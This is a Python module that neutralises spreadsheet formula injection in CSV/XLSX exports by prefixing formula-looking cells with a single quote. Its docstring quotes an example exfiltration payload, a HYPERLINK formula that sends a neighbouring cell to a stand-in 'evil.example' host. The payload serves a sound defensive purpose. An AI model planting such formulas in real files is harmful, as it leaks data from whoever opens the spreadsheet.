"""Formula injection: the one rule every CSV or spreadsheet the product writes applies to its cells.

A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return, which some spreadsheets skip
before looking for a formula) is prefixed with a single quote, as OWASP recommends. Spreadsheets then show
the text instead of evaluating it; a brand named ``=HYPERLINK("http://evil.example/?d="&D2,"Detay")`` cannot
leak the neighbouring cells of whoever opens the file. Phone numbers in E.164 start with ``+`` and come out
as ``'+905321234567``: we neutralise every such cell rather than whitelisting phone-shaped values, because a
whitelist is exactly what an attacker would aim at. The leading quote is also the format our own upload
accepts back.
"""
from __future__ import annotations

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: str) -> str:
    """Make a cell inert in spreadsheets: formula-looking text gets a leading single quote."""
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def neutralise_cell(value: object) -> object:
    """Like :func:`neutralise` for a cell of any type: only text can carry a formula."""
    return neutralise(value) if isinstance(value, str) else value
